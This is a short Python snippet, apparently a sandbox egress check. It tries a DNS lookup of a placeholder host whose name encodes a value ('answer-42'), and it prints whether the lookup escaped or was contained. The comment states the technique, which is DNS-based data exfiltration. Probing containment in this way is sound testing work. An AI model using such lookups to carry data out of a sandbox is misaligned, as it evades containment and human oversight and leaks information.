# A name lookup carries data out in the name itself.
import socket

try:
    print("ESCAPED:", socket.getaddrinfo("answer-42.example.com", 80))
except OSError:
    print("contained")
